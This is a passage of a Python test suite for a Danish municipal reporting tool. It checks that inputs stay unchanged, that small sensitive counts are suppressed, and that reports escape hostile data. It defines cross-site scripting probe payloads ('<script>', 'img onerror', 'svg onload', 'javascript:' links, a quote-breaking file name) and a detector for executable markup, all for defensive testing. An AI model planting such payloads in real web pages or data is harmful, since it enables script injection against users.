"""Safety of inputs and reports: nothing changed, nothing executable, no small counts.

(1) Input files are never modified: checksums of every input (data/, the corpus, the test's own files)
    before and after every command of the command line.
(2) HTML safety: ``<script>``, ``<img onerror>``, ``<svg onload>`` and ``javascript:`` links are put into
    every text column of the data (kilde, note, the evaluator's begrundelse), into a column header and a
    file name; the rendered reports contain them as text only, never as markup (checked by parsing, and
    in a real browser when Chromium is installed). Names from the plan are escaped in every section.
(3) Diskretionering (helhedsanalyse/diskretionering.py, docs/metode.md): the rules on small examples, in
    the report's tables, and on the session's rendered set of the shipped data: every report says which
    rule was applied, no count of a sensitive indicator below the threshold is shown, and every cell the
    rules suppress (primary or secondary) is hidden in the area reports. Every path to a published number:
    the corpus files under ``diskretionering:`` in tests/korpus/forventet.yaml through the value tables, the
    data check's notes, ``status`` in every format and ``lister`` (with ``--graense`` and
    ``--uden-diskretionering``), and the list section of the reports. (That no suppressed cell can be solved
    for from all published numbers together is the property test in test_egenskaber.py.)
(4) Safe outputs: CSV that Excel opens without running a formula (``status --format csv``, ``lister``), and
    the evaluator's Markdown findings show images only from files beside them, embedded, never fetched.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import shutil
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from helhedsanalyse.cli import app
from helhedsanalyse.compute import diskretionering as disk
from helhedsanalyse.plan import DATA_DIR, load_plan
from helhedsanalyse.report.leverancer import SKJULT_KORT

REPO = Path(__file__).resolve().parents[1]
KORPUS = Path(__file__).parent / "korpus"
runner = CliRunner()

#: Every payload sets window.__xss when it runs, so a browser can tell.
SCRIPT = "<script>window.__xss=1</script>"
IMG = '<img src=x onerror="window.__xss=2">'
SVG = '"><svg onload="window.__xss=3">'
LINK = '<a href="javascript:window.__xss=4">klik</a>'
PAYLOAD = f"{SCRIPT} {IMG} {SVG} {LINK} [md](javascript:window.__xss=7)"
HEADER_PAYLOAD = '<b onmouseover="window.__xss=5">ekstra</b>'
NAME_PAYLOAD = "x'\"\\ <img src=x onerror=window.__xss=6>"
TEXT_COLUMNS = ("kilde", "note", "begrundelse")


# --------------------------------------------------------------------------- helpers


def checksums(*roots: Path) -> dict[str, str]:
    out = {}
    for root in roots:
        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
        for p in files:
            if "__pycache__" in p.parts:
                continue
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


class _Markup(HTMLParser):
    """Every start tag with its attributes, and the text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k.lower(): (v or "") for k, v in attrs}))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def executable_markup(html_text: str) -> list[str]:
    """Everything in a page that a browser could run: scripts, event handlers, javascript: URLs, frames."""
    p = _Markup()
    p.feed(html_text)
    p.close()
    found = []
    for tag, attrs in p.tags:
        if tag in ("script", "iframe", "frame", "object", "embed", "svg", "math", "base", "form", "meta") and not (
            tag == "meta" and set(attrs) <= {"charset", "name", "content"}
        ):
            found.append(f"<{tag} {attrs}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value[:60]!r}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc") and re.match(
                r"\s*(javascript|vbscript|data:text/html)", value, re.I
            ):
                found.append(f"<{tag} {name}={value[:60]!r}>")
            if "__xss" in value and name not in ("alt", "title", "aria-label"):  # text attributes are inert
                found.append(f"<{tag} {name}={value[:60]!r}> carries the payload in an attribute")
        if tag == "img" and not attrs.get("src", "").startswith("data:image/png;base64,"):
            found.append(f"<img src={attrs.get('src', '')[:60]!r}>")
    return found


def page_text(html_text: str) -> str:
    p = _Markup()
    p.feed(html_text)
    p.close()
    return " ".join(p.text)


def write_malicious_copy(dst: Path) -> Path:
    """The shipped example data with a payload in every text column, a header and a file name."""
    src = DATA_DIR / "eksempel"
    dst.mkdir(parents=True)
    header_done = False
    for f in sorted(src.iterdir()):
        if f.suffix.lower() != ".csv":
            shutil.copy(f, dst / f.name)
            continue
        text = f.read_text(encoding="utf-8-sig")
        first = text.split("\n", 1)[0]
        sep = ";" if first.count(";") > first.count(",") else ","
        rows = list(csv.reader(io.StringIO(text), delimiter=sep))
        header = rows[0]
        for r in rows[1:]:
            for col in TEXT_COLUMNS:
                if col in header and header.index(col) < len(r):
                    r[header.index(col)] = PAYLOAD
        name = f.name
        if not header_done and not name.lower().startswith("vurdering"):
            header.append(HEADER_PAYLOAD)
            for r in rows[1:]:
                r.append("x")
            name = f"{NAME_PAYLOAD}.csv"
            header_done = True
        buf = io.StringIO()
        csv.writer(buf, delimiter=sep, lineterminator="\n").writerows(rows)
        (dst / name).write_text(buf.getvalue(), encoding="utf-8")
    return dst


# --------------------------------------------------------------------------- (1) + (2): a render of hostile data


@pytest.fixture(scope="module")
def ond(tmp_path_factory):
    """Hostile data rendered through the command line (3 notebooks), with checksums around the render."""
    base = tmp_path_factory.mktemp("ond")
    data = write_malicious_copy(base / "data")
    out = base / "rapporter"
    inputs = (DATA_DIR, KORPUS, data)
    before = checksums(*inputs)
    result = runner.invoke(app, ["render", "--data", str(data), "--runde", "slut", "--omraade", "motalavej",
                                 "--notebook", "datatjek", "--notebook", "omraade", "--notebook", "helhedsevaluering",
                                 "--ud", str(out), "--processer", "2"])
    after = checksums(*inputs)
    return {"data": data, "out": out, "result": result, "before": before, "after": after, "inputs": inputs}


def test_hostile_render_succeeds_and_changes_no_input(ond):
    result = ond["result"]
    assert result.exit_code == 0, result.output[-3000:]
    assert ond["after"] == ond["before"], "render changed an input file"
    assert sorted(p.name for p in (ond["out"] / "slut").glob("*.html")) == [
        "datatjek.html", "helhedsevaluering.html", "omraade_motalavej.html", "statusoversigt.html"]


def test_no_executable_markup_from_data_in_any_report(ond):
    pages = sorted(ond["out"].rglob("*.html"))
    assert len(pages) == 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert executable_markup(text) == [], page.name
        assert "window.__xss" not in re.sub(r">[^<]*<", "><", text), f"{page.name}: payload outside text"


def test_the_payloads_reached_the_reports_as_text(ond):
    """The check above is only worth something if the payloads were shown: as visible, escaped text."""
    slut = ond["out"] / "slut"
    omraade = (slut / "omraade_motalavej.html").read_text(encoding="utf-8")
    datatjek = (slut / "datatjek.html").read_text(encoding="utf-8")
    shown = page_text(omraade)
    for part in (SCRIPT, IMG, LINK):
        assert part in shown, f"{part} is not shown as text in the area report (kilde/note/begrundelse)"
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in omraade
    assert NAME_PAYLOAD + ".csv" in page_text(datatjek), "the file name is shown (escaped) in the data check"
    assert f"ukendt kolonne '{HEADER_PAYLOAD}' ignoreret" in page_text(datatjek)


def test_hostile_reports_do_not_run_in_a_browser(ond):
    sys.path.insert(0, str(Path(__file__).parent))
    from chromium import Browser, _find

    binary = _find()
    if not binary:
        pytest.skip("Chromium is not installed (test_browser.py installs it); parsing the HTML is checked above")
    probe = "JSON.stringify({xss: window.__xss === undefined ? null : window.__xss, n: document.images.length})"
    with Browser(binary) as b:
        for name in ("omraade_motalavej.html", "datatjek.html", "helhedsevaluering.html"):
            visit = b.open(ond["out"] / "slut" / name, probe)
            assert visit.resultat["xss"] is None, f"{name}: a payload ran ({visit.resultat})"
            assert not [u for u in visit.forespoergsler if not u.startswith(("file:", "data:"))], visit.forespoergsler


def test_every_command_leaves_every_input_unchanged(ond, tmp_path, monkeypatch):
    """validate, status, template (and any command added later that takes --data) on all inputs."""
    import typer

    inputs = ond["inputs"]
    monkeypatch.chdir(KORPUS)
    corpus = sorted(p.name for p in KORPUS.iterdir() if p.suffix in (".csv", ".xlsx", ".xls", ".txt"))
    runs = {
        "validate": [["validate", *corpus], ["validate", str(ond["data"]), str(DATA_DIR / "eksempel")]],
        "status": [["status", "--data", str(ond["data"]), "--format", "csv"],
                   ["status", "--data", "semikolon_decimalkomma.csv", "--runde", "midtvej"]],
        "template": [["template", str(tmp_path / "skabelon.xlsx")]],
        "render": [],  # the module fixture rendered the hostile data with checksums around it
    }
    commands = typer.main.get_command(app).commands
    for name, command in commands.items():
        if name in runs:
            continue
        takes_data = any("--data" in getattr(p, "opts", []) for p in command.params)
        runs[name] = [[name, "--data", str(ond["data"])]] if takes_data else [[name, "--help"]]
    for name, arglists in runs.items():
        for args in arglists:
            before = checksums(*inputs)
            result = runner.invoke(app, args)
            assert "Traceback" not in result.output, (args, result.output[-2000:])
            assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exception)
            assert checksums(*inputs) == before, f"'helhedsanalyse {' '.join(args)}' changed an input file"
    assert ond["after"] == ond["before"]


# --------------------------------------------------------------------------- names from the plan are escaped


def test_names_from_the_plan_are_escaped_in_every_section(monkeypatch):
    """Area, indicator, indsatsområde, activity and criterion texts with markup, through every section."""
    import helhedsanalyse.report.rapport as report_mod
    from helhedsanalyse.compute.runde import compute
    from helhedsanalyse.report import Rapport

    plan = load_plan()
    bad = lambda text: f"{text} {IMG}"  # noqa: E731
    omraader = [o.model_copy(update={"navn": bad(o.navn), "kortnavn": bad(o.kortnavn or o.navn)}) for o in plan.omraader]
    indikatorer = [i.model_copy(update={"navn": bad(i.navn)}) for i in plan.indikatorer]
    ios = [io_.model_copy(update={"navn": bad(io_.navn), "formaal": bad(io_.formaal), "aktiviteter": [
        a.model_copy(update={"navn": bad(a.navn)}) for a in io_.aktiviteter]}) for io_ in plan.indsatsomraader]
    kriterier = [k.model_copy(update={"tekst": bad(k.tekst)}) for k in plan.kriterier]
    ond_plan = plan.model_copy(update={"omraader": omraader, "indikatorer": indikatorer, "indsatsomraader": ios,
                                       "kriterier": kriterier, "navn": bad(plan.navn)})
    for prop in ("omraade", "indikator", "kriterium", "indsatsomraade", "aktivitet"):
        ond_plan.__dict__.pop(prop, None)
    r = Rapport(plan=ond_plan, beregnet=compute("slut"))
    shown: list[str] = []
    monkeypatch.setattr(report_mod, "display", lambda obj: shown.append(getattr(obj, "data", str(obj))))
    monkeypatch.setattr("helhedsanalyse.report.plots.figure_to_html", lambda fig, alt: f'<img src="data:image/png;base64,AA" alt="{__import__("html").escape(alt)}">')
    parts = [
        r.titelblok(bad("Titel"), bad("Omfang")).data, r.om_rapporten().data, r.hovedresultater().data,
        r.maalopfyldelse().data, r.statusoptaelling().data, r.statusgitter().data,
        r.sammenligning("motalavej").data, r.sammenligning_omraaderne().data, r.ressourcer().data, r.aktiviteter("tryghed_trivsel").data,
        r.datadaekning().data, r.mangler().data, r.leverancer().data, r.opmaerksomhedspunkter().data,
        r.indsatsomraade_oversigt().data,
    ]
    for kid in list(r.rows("motalavej")["kriterium"])[:6]:
        shown.append(r.kriterie_afsnit(kid, "motalavej").data)
    html_text = "\n".join(parts + shown)
    assert IMG not in html_text
    assert executable_markup(html_text) == []
    assert "onerror" in page_text(html_text), "the names were shown (as text)"


def test_evaluators_findings_markdown_cannot_carry_a_javascript_link(tmp_path, monkeypatch):
    from types import SimpleNamespace

    import nbformat

    import helhedsanalyse.report.rapport as report_mod
    from helhedsanalyse.plan import load_plan
    from helhedsanalyse.render import notebook_to_html

    fund = tmp_path / "fund.md"
    fund.write_text(f"# Fund\nRunde: slut\n\n## Anbefalinger\n\n{PAYLOAD}\n", encoding="utf-8")
    shown = []
    monkeypatch.setattr(report_mod, "display", lambda obj: shown.append(obj))
    report_mod.Rapport.evaluators_fund(SimpleNamespace(plan=load_plan(), runde="slut"), str(fund))
    (md,) = shown
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("")
    mime = "text/html" if type(md).__name__ == "HTML" else "text/markdown"
    cell.outputs = [nbformat.v4.new_output("display_data", data={mime: md.data, "text/plain": ""})]
    nb.cells = [cell]
    assert executable_markup(notebook_to_html(nb, "fund")) == []


# --------------------------------------------------------------------------- (3) diskretionering: the rules


def test_primary_rule():
    assert disk.primaer("antal", 1) and disk.primaer("antal", 4) and not disk.primaer("antal", 5)
    assert not disk.primaer("antal", 0), "zero identifies nobody and is shown"
    assert disk.primaer("pct", 50.0, 2, 4) and disk.primaer("pct", 5.9, 2, 34) and disk.primaer("pr_1000", 4.0, 4, 1000)
    assert not disk.primaer("pct", 20.6, 7, 34) and not disk.primaer("pct", 0.0, 0, 34)
    assert disk.primaer("antal", 7, graense=10) and not disk.primaer("antal", 10, graense=10)


def test_primary_rule_counts_the_persons_behind_a_share():
    # the tæller a value implies when only the value and the nævner are given: 10 % of 30 is 3 persons
    assert disk.taeller_bag("pct", 10.0, None, 30) == pytest.approx(3.0)
    assert disk.primaer("pct", 10.0, None, 30) and disk.primaer("pct", 9.7, None, 30)  # 2,91 persons
    assert not disk.primaer("pct", 20.0, None, 30)  # 6 of 30
    assert disk.primaer("pr_1000", 2.0, None, 1500)  # 3 per 1500 residents
    # the complement: 48 of 50 says that 2 are not
    assert disk.primaer("pct", 96.0, 48, 50) and disk.primaer("pct", 96.0, None, 50)
    assert not disk.primaer("pct", 90.0, 45, 50) and not disk.primaer("pct", 100.0, 50, 50), "0 identifies nobody"
    assert disk.primaer("pct", 92.0, 46, 50, graense=5) and not disk.primaer("pct", 90.0, 45, 50, graense=5)


def test_the_mask_of_a_share_without_taeller_and_of_the_delivery_table_is_one():
    """samlet adds the tæller a value implies; the delivery table's year to date is the yearly value."""
    import pandas as pd

    from helhedsanalyse.compute.indicators import compute_indicators
    from helhedsanalyse.inputs.contract import normalise_observations

    plan = load_plan()
    cols = ["omraade", "indikator", "periode", "vaerdi", "taeller", "naevner"]
    obs = pd.DataFrame([
        ("motalavej", "ydelse_18_29", "2021", None, 72, 260), ("ringparken", "ydelse_18_29", "2021", None, 134, 520),
        ("sydbyen", "ydelse_18_29", "2021", None, 75, 250), ("skaelskoer", "ydelse_18_29", "2021", 10.0, None, 30),
    ], columns=cols)
    maske = disk.marker_indikatorer(compute_indicators(obs, plan), plan, 5)
    assert maske == {("skaelskoer", "ydelse_18_29", 2021): disk.PRIMAER,
                     ("motalavej", "ydelse_18_29", 2021): disk.SEKUNDAER}, "the smallest other tæller (72 of 260)"
    # fritidsjob 2021 with two quarters: the value tables have no samlet (an incomplete year), but the delivery
    # table's samlet year to date (35) is the sum of the areas' years to date, which are their yearly values
    obs = pd.DataFrame([(o, "fritidsjob", f"2021Q{q}", v, None, None) for o, vs in
                        [("motalavej", (1, 2)), ("ringparken", (8, 9)), ("sydbyen", (7, 8))]
                        for q, v in zip((1, 2), vs)], columns=cols)
    ind = compute_indicators(obs, plan)
    assert disk.marker_indikatorer(ind, plan, 5) == {("motalavej", "fritidsjob", 2021): disk.PRIMAER}
    maske = disk.marker_indikatorer(ind, plan, 5, observations=normalise_observations(obs))
    assert maske == {
        **{("motalavej", "fritidsjob", 2021, *k): disk.PRIMAER for k in ((), ("K1",), ("K2",), ("ytd",))},
        **{("sydbyen", "fritidsjob", 2021, *k): disk.SEKUNDAER for k in ((), ("K1",), ("K2",), ("ytd",))},
    }, "Sydbyen's 15 is hidden in the value table too: it is the delivery table's year to date"


def test_texts_lose_the_numbers_of_suppressed_cells():
    plan = load_plan()
    maske = {("skaelskoer", "ydelse_18_29", 2021): disk.PRIMAER}
    rens = lambda t, o="samlet", v=(): disk.rens_bemaerkning(t, o, "ydelse_18_29", 2021, maske, plan, 5, v)  # noqa: E731
    assert rens("Samlet 2021 kan ikke beregnes: mangler Motalavej (de øvrige giver 209,5).") == (
        "Samlet 2021 kan ikke beregnes: mangler Motalavej (de øvrige giver (diskretioneret)).")
    assert rens("Samlet er brugt som opgivet (26,8); beregnet af områderne giver 26,9.") == (
        "Samlet er brugt som opgivet (26,8); beregnet af områderne giver (diskretioneret).")
    assert rens("1 række(r) mere for 2021 er ikke brugt (værdi 12).", "skaelskoer", [10, None, 30]) == (
        "1 række(r) mere for 2021 er ikke brugt (værdi (diskretioneret)).")
    # a shown cell keeps its notes; another year's partial sum keeps its number
    assert rens("1 række(r) mere for 2021 er ikke brugt (værdi 12).", "ringparken") == (
        "1 række(r) mere for 2021 er ikke brugt (værdi 12).")
    assert disk.rens_note("række 5: værdien 12 passer ikke med tæller/nævner (10); værdien er brugt", [12, 3, 30]) == (
        "række 5: værdien (diskretioneret) passer ikke med tæller/nævner (diskretioneret); værdien er brugt")
    assert disk.rens_note("rækker 2-4: periode 2018 og værdien 7", [7]) == (
        "rækker 2-4: periode 2018 og værdien (diskretioneret)")


def test_secondary_rule_hides_the_next_smallest_area_or_samlet():
    areas = ("motalavej", "ringparken", "sydbyen", "skaelskoer")
    g = [disk.Gruppe("samlet", areas)]
    # one small area and samlet shown: the next-smallest area goes too
    assert disk.sekundaer({"motalavej"}, {"samlet": 40, "motalavej": 3, "ringparken": 12, "sydbyen": 9,
                                          "skaelskoer": 16}, g) == {"sydbyen"}
    # two small areas protect each other; nothing more
    assert disk.sekundaer({"motalavej", "sydbyen"}, {"samlet": 30, "motalavej": 3, "ringparken": 12, "sydbyen": 2,
                                                     "skaelskoer": 13}, g) == set()
    # only one area has data: samlet is that area, so samlet goes
    assert disk.sekundaer({"sydbyen"}, {"samlet": 3, "sydbyen": 3}, g) == {"samlet"}
    # samlet not shown at all: nothing to subtract from
    assert disk.sekundaer({"motalavej"}, {"motalavej": 3, "ringparken": 12}, g) == set()
    # samlet small (then all areas are small): nothing more
    assert disk.sekundaer({"samlet", "motalavej", "sydbyen"}, {"samlet": 4, "motalavej": 3, "sydbyen": 1}, g) == set()
    # ties go to the first part
    assert disk.sekundaer({"motalavej"}, {"samlet": 23, "motalavej": 3, "ringparken": 10, "sydbyen": 10}, g) == {"ringparken"}


def _skriv(path: Path, rows: list[tuple]) -> Path:
    lines = ["omraade;indikator;periode;vaerdi;taeller;naevner;kilde;note"]
    lines += [";".join("" if c is None else str(c) for c in r) + ";test;" for r in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def smaa_tal(tmp_path_factory):
    """Sensitive indicators with small counts: dropout (antal, samlet = sum), ungdomsuddannelse (pct),
    fritidsjob per quarter (the delivery table)."""
    folder = tmp_path_factory.mktemp("smaa")
    _skriv(folder / "smaa.csv", [
        ("motalavej", "dropout", 2019, 3, None, None), ("ringparken", "dropout", 2019, 12, None, None),
        ("sydbyen", "dropout", 2019, 9, None, None), ("skaelskoer", "dropout", 2019, 16, None, None),
        ("motalavej", "dropout", 2020, 6, None, None), ("ringparken", "dropout", 2020, 12, None, None),
        ("sydbyen", "dropout", 2020, 9, None, None), ("skaelskoer", "dropout", 2020, 16, None, None),
        ("motalavej", "ungdomsuddannelse_18plus", 2019, None, 12, 50),
        ("ringparken", "ungdomsuddannelse_18plus", 2019, None, 20, 80),
        ("sydbyen", "ungdomsuddannelse_18plus", 2019, None, 2, 30),
        ("skaelskoer", "ungdomsuddannelse_18plus", 2019, None, 7, 34),
        ("motalavej", "grundskole_18_29", 2019, None, 100, 260), ("ringparken", "grundskole_18_29", 2019, None, 90, 240),
        ("sydbyen", "grundskole_18_29", 2019, None, 3, 40), ("skaelskoer", "grundskole_18_29", 2019, None, 60, 150),
        *[(a, "fritidsjob", f"2021Q{q}", v, None, None) for a, vs in
          [("motalavej", (6, 2, 7, 8)), ("ringparken", (10, 11, 12, 9)), ("sydbyen", (5, 6, 7, 8)),
           ("skaelskoer", (9, 9, 9, 9))] for q, v in zip(range(1, 5), vs)],
    ])
    return folder


def _rapport(folder: Path, **kw):
    from helhedsanalyse.report import Rapport

    return Rapport.load("slut", [str(folder / "smaa.csv")], **kw)


def _celler(table_html: str) -> list[dict[str, str]]:
    """The rows of the first table in ``table_html`` as {column: cell text}."""
    p = _Blocks()
    p.feed(table_html)
    p.close()
    rows = next(item for kind, item in p.items if kind == "table")
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def test_value_tables_use_primary_and_secondary_suppression(smaa_tal):
    r = _rapport(smaa_tal)
    by_year = lambda o, i: {c["År"]: c for c in _celler(r.vaerditabel(o, i))}  # noqa: E731
    assert by_year("motalavej", "dropout")["2019"]["Værdi"] == "<5"
    assert by_year("sydbyen", "dropout")["2019"]["Værdi"] == "(diskretioneret)", "next-smallest area"
    assert by_year("ringparken", "dropout")["2019"]["Værdi"] == "12"
    assert by_year("samlet", "dropout")["2019"]["Værdi"] == "40"
    assert by_year("sydbyen", "dropout")["2020"]["Værdi"] == "9", "2020 has nothing small"
    # a share on a small tæller: value and tæller/nævner hidden; skaelskoer (7/34) is the smallest other
    assert by_year("sydbyen", "ungdomsuddannelse_18plus")["2019"]["Værdi"] == "(diskretioneret)"
    assert by_year("sydbyen", "ungdomsuddannelse_18plus")["2019"]["Tæller/nævner"] == "<5"
    skael = by_year("skaelskoer", "ungdomsuddannelse_18plus")["2019"]
    assert skael["Værdi"] == "(diskretioneret)" and skael["Tæller/nævner"] == "(diskretioneret)"
    assert by_year("motalavej", "ungdomsuddannelse_18plus")["2019"]["Tæller/nævner"] == "12 / 50"
    # hidden in the figures too
    assert r.skjult("sydbyen", "dropout").tolist() == [True, False]
    assert r.maske[("sydbyen", "dropout", 2019)] == disk.SEKUNDAER
    assert r.maske[("motalavej", "dropout", 2019)] == disk.PRIMAER


def test_threshold_is_a_parameter_and_suppression_can_be_turned_off(smaa_tal):
    r10 = _rapport(smaa_tal, diskretionering_graense=10)
    cells = {c["År"]: c["Værdi"] for c in _celler(r10.vaerditabel("sydbyen", "dropout"))}
    assert cells == {"2019": "<10", "2020": "<10"}
    assert "antal under 10" in r10.om_rapporten("O").data and "&lt;10" in r10.om_rapporten("O").data
    off = _rapport(smaa_tal, diskretionering=False)
    cells = {c["År"]: c["Værdi"] for c in _celler(off.vaerditabel("motalavej", "dropout"))}
    assert cells == {"2019": "3", "2020": "6"}
    assert "Fra (intern arbejdskopi" in off.om_rapporten("O").data
    from helhedsanalyse.core.errors import ParameterError

    for bad in (0, -1, 2.5, True):
        with pytest.raises(ParameterError, match="Grænsen skal være et helt tal på mindst 1"):
            _rapport(smaa_tal, diskretionering_graense=bad)


def test_delivery_table_protects_rows_and_columns(smaa_tal):
    r = _rapport(smaa_tal)
    rows = _celler(r.leverancer(2021).data)
    fj = {}
    current = None
    for c in rows:
        current = c["Aktivitet"] or current
        if current == r.plan.indikator["fritidsjob"].navn:
            fj[c["Område"]] = c
    navn = {o: r.plan.omraade[o].navn for o in r.plan.omraade_ids}
    assert fj[navn["motalavej"]]["K2"] == "<5"
    hidden = {(o, k) for o, c in fj.items() for k in ("K1", "K2", "K3", "K4", "År til dato")
              if c[k] in ("<5", SKJULT_KORT)}
    # no row and no column with exactly one hidden cell
    for o in fj:
        assert sum((o, k) in hidden for k in ("K1", "K2", "K3", "K4", "År til dato")) != 1, o
    for k in ("K1", "K2", "K3", "K4", "År til dato"):
        assert sum((o, k) in hidden for o in fj) != 1, k
    for o, c in fj.items():
        if (o, "År til dato") in hidden and c["Årsmål"]:
            assert c["Stand"] in ("nået", "ikke nået"), "a share of the target would give the year to date back"
    # a secondarily suppressed cell has a short mark (the table fits the page), explained once below the table
    html = r.leverancer(2021).data
    assert any(c[k] == SKJULT_KORT for c in fj.values() for k in ("K1", "K2", "K3", "K4", "År til dato"))
    assert "(diskretioneret)" not in html
    assert html.count(f"{SKJULT_KORT}: tallet er diskretioneret") == 1


def test_delivery_figure_leaves_out_areas_with_suppressed_cells(smaa_tal, monkeypatch):
    import helhedsanalyse.report.rapport as report_mod

    r = _rapport(smaa_tal)
    shown: list[str] = []
    monkeypatch.setattr(report_mod, "display", lambda obj: shown.append(getattr(obj, "data", str(obj))))
    shown.append(r.leverance_figurer(2021).data)
    text = "\n".join(shown)
    # Motalavej's K2 (2) is suppressed, and Sydbyen's cells protect it: both are left out; samlet stays,
    # since two missing areas cannot be told apart
    assert "Udeladt af figuren (diskretionering): Motalavej, Sydbyen." in text
    assert text.count('<img src="data:image/png;base64,') >= 1


def test_comparison_hides_a_suppressed_value_and_its_differences(smaa_tal):
    r = _rapport(smaa_tal)
    navn = r.plan.indikator["grundskole_18_29"].navn
    for omraade in ("sydbyen", "skaelskoer"):  # primary (3 of 40), and the smallest other area (secondary)
        row = next(c for c in _celler(r.sammenligning(omraade).data) if c["Indikator"] == navn)
        assert row["Værdi"] == "(diskretioneret) (2019)", row
        assert "området" not in " ".join(row.values()), "a difference from a reference would give the value back"
    row = next(c for c in _celler(r.sammenligning("motalavej").data) if c["Indikator"] == navn)
    assert row["Værdi"].startswith("38,5 %") and "området" in " ".join(row.values())


def test_plan_jobs_pass_the_threshold_to_every_notebook(tmp_path):
    from helhedsanalyse.render import plan_jobs

    jobs = plan_jobs("slut", ["motalavej"], out_dir=tmp_path, diskretionering_graense=10)
    assert jobs and all(j.parametre["diskretionering_graense"] == 10 for j in jobs)
    assert all(j.parametre["diskretionering_graense"] == 5 for j in plan_jobs("slut", ["motalavej"], out_dir=tmp_path))


def test_render_refuses_a_bad_threshold_before_any_kernel(tmp_path, monkeypatch):
    import papermill

    import helhedsanalyse.render.engine as render_mod

    def forbidden(*a, **k):
        raise AssertionError("a kernel was started")

    monkeypatch.setattr(papermill, "execute_notebook", forbidden)
    monkeypatch.setattr(render_mod, "prepare_round", forbidden)
    result = runner.invoke(app, ["render", "--graense", "0", "--runde", "slut", "--ud", str(tmp_path / "ud")])
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        "Fejl: Ugyldig grænse for diskretionering '0'. Grænsen skal være et helt tal på mindst 1 (standard 5).")
    assert not (tmp_path / "ud").exists()


# --------------------------------------------------------------------------- (3) the corpus: every path to a number

KORPUS_DISK = [t for t in yaml.safe_load((KORPUS / "forventet.yaml").read_text(encoding="utf-8"))["tilfaelde"]
               if "diskretionering" in t]
RAPPORT_TILFAELDE = [t for t in KORPUS_DISK if "indikator" in t["diskretionering"]]
LISTE_TILFAELDE = [(t, k) for t in KORPUS_DISK for k in t["diskretionering"].get("lister", [])]


@pytest.fixture
def i_korpus(monkeypatch):
    """Run in tests/korpus, as the corpus tests do, so that the file is named as the user typed it."""
    monkeypatch.chdir(KORPUS)
    return KORPUS


@pytest.mark.parametrize("t", RAPPORT_TILFAELDE, ids=[t["fil"] for t in RAPPORT_TILFAELDE])
def test_corpus_file_in_the_published_reports(i_korpus, t, monkeypatch):
    """The value tables, the Kilde notes, the data check and the criterion sections of the area reports."""
    import helhedsanalyse.report.rapport as report_mod
    from helhedsanalyse.report import Rapport

    d = t["diskretionering"]
    ind = d["indikator"]
    r = Rapport.load("slut", [t["fil"]])
    tabeller = {o: {c["År"]: c for c in _celler(r.vaerditabel(o, ind))} for o in r.plan.omraade_ids
                if not r.serie(o, ind).empty}
    for o, aar, vaerdi, brok in d["vaerditabel"]:
        c = tabeller[o][aar]
        assert (c["Værdi"], c.get("Tæller/nævner", "")) == (vaerdi, brok), (o, aar, c)
    for o, kilde in d.get("kilde", {}).items():
        assert tabeller[o]["2021"]["Kilde"] == kilde
    if "datatjek" in d:
        noter = _celler(r.valideringsnoter().data)
        assert [c["Fortolket under indlæsningen"] for c in noter if c["Fil"] == t["fil"]] == d["datatjek"]
    # the criterion sections (explanation, sentences, figure note, value table) say nothing the tables hide
    shown: list[str] = []
    monkeypatch.setattr(report_mod, "display", lambda obj: shown.append(getattr(obj, "data", str(obj))))
    for k in r.plan.kriterier_med(ind):
        for o in r.rows()[r.rows()["kriterium"] == k.id]["omraade"]:
            shown.append(r.kriterie_afsnit(k.id, o).data)
    text = page_text("\n".join(shown))
    for forbidden in d.get("ikke_vist", []):
        assert forbidden not in text, forbidden
    skjulte = [o for o, _, vaerdi, _ in d["vaerditabel"] if vaerdi in ("<5", "(diskretioneret)")]
    assert text.count(disk.forklaring_udeladt(5)) >= len(skjulte)


@pytest.mark.parametrize("t", RAPPORT_TILFAELDE, ids=[t["fil"] for t in RAPPORT_TILFAELDE])
def test_corpus_file_in_status_in_every_format(i_korpus, t):
    d = t["diskretionering"]
    ind = d["indikator"]
    out = {fmt: runner.invoke(app, ["status", "--data", t["fil"], "--format", fmt]) for fmt in ("csv", "json", "table")}
    for fmt, res in out.items():
        assert res.exit_code == 0, (fmt, res.output[-2000:])
    lines = out["csv"].stdout.splitlines()
    rows = [x for x in csv.DictReader(io.StringIO(out["csv"].stdout)) if x["indikator"] == ind]
    by = {x["omraade"]: x for x in rows}
    records = {x["omraade"]: x for x in json.loads(out["json"].stdout) if x["indikator"] == ind}
    for o, vaerdi, mark in d["status"]:
        assert (by[o]["vaerdi"], by[o]["diskretionering"]) == (vaerdi, mark), by[o]
        assert records[o]["vaerdi"] == (float(vaerdi) if vaerdi else None) and records[o]["diskretionering"] == mark
        if mark:  # the explanation rests on a suppressed number: replaced, as in the reports
            for x in (by[o], records[o]):
                assert x["forklaring"] == disk.forklaring_udeladt(5)
                assert x["usikkerhed"] in ("", None) and x["fremskrivning"] in ("", None)
                assert x["ki_nedre"] in ("", None) and x["fremskridt"] in ("", None)
            assert records[o]["status"], "the status itself is computed from the full figures"
        if mark in ("<5", "(diskretioneret)"):
            line = next(x for x in out["table"].stdout.splitlines()
                        if re.search(rf"\b{by[o]['kriterium']}\s+{o}\b", x))
            assert mark in line, line
    ind_lines = [x for x in lines if f",{ind}," in x]
    for forbidden in d.get("ikke_vist", []):
        assert not [x for x in ind_lines if forbidden in x], forbidden
        assert forbidden not in json.dumps(list(records.values()), ensure_ascii=False), forbidden
        if not re.fullmatch(r"\d+\.\d+", forbidden):  # a number as CSV writes it is not how the table shows it
            assert forbidden not in out["table"].stdout, forbidden
    # --uden-diskretionering: the internal copy shows the value behind the first mark
    hidden = [o for o, vaerdi, mark in d["status"] if mark in ("<5", "(diskretioneret)")]
